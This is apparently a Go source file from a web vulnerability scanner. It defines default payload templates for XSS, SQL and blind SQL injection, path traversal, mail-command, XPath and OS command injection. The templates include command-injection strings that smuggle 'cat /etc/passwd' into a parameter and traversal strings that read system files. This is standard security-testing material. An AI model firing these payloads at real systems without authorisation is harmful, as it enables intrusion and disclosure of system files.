/*
Author: KleaSCM
Email: KleaSCM@gmail.com
File: defaults.go
Description: Built-in payload templates used when no corpus file is configured.
Blind SQL templates end in a boolean comparison against 1 so the false branch can
be derived by flipping the trailing digit.
*/

package payloads

// Default returns a fresh copy of the built-in corpus
func Default() Corpus {
	c := make(Corpus, len(defaultTemplates))
	for class, templates := range defaultTemplates {
		c[class] = append([]string(nil), templates...)
	}
	return c
}

var defaultTemplates = map[Class][]string{
	ClassXSS: {
		"<script>alert(__RANDOM_INT__)</script>",
		"__VALID_PARAM__<script>alert(__RANDOM_INT__)</script>",
		"<ScRiPt>alert(__RANDOM_INT__)</ScRiPt>",
		"\"><script>alert(__RANDOM_INT__)</script><\"",
	},
	ClassSQLi: {
		"'",
		"\"",
		"__VALID_PARAM__'",
		"__VALID_PARAM__\"",
		"__VALID_PARAM__'--",
		"__VALID_PARAM__ AND 'a'='a",
	},
	ClassBSQLi: {
		"__VALID_PARAM__ AND 1=1",
		"__VALID_PARAM__' AND '1'='1",
		"__VALID_PARAM__\" AND \"1\"=\"1",
		"__VALID_PARAM__) AND (1=1",
	},
	ClassTraversal: {
		"../../../../../../../../../../etc/passwd",
		"../../../../../../../../../../etc/passwd\x00",
		"....//....//....//....//....//etc/passwd",
		"/etc/passwd",
		"..\\..\\..\\..\\..\\..\\..\\windows\\win.ini",
		"c:\\windows\\win.ini",
	},
	ClassMXI: {
		"\"",
		"__VALID_PARAM__\"",
		"__VALID_PARAM__)",
		"__VALID_PARAM__\r\nV100 CAPABILITY\r\nV101 FETCH 4791",
		"__VALID_PARAM__\r\nV100 SELECT \"INBOX\r\n",
	},
	ClassXPathI: {
		"'",
		"\"",
		"__VALID_PARAM__'",
		"__VALID_PARAM__' or '1'='1",
		"__VALID_PARAM__]",
		"x' or name()='username' or 'x'='y",
	},
	ClassOSCI: {
		";cat /etc/passwd",
		"|cat /etc/passwd",
		"__VALID_PARAM__;cat /etc/passwd",
		"__VALID_PARAM__|cat /etc/passwd",
		"`cat /etc/passwd`",
		"$(cat /etc/passwd)",
		"__VALID_PARAM__&type c:\\windows\\win.ini",
	},
}
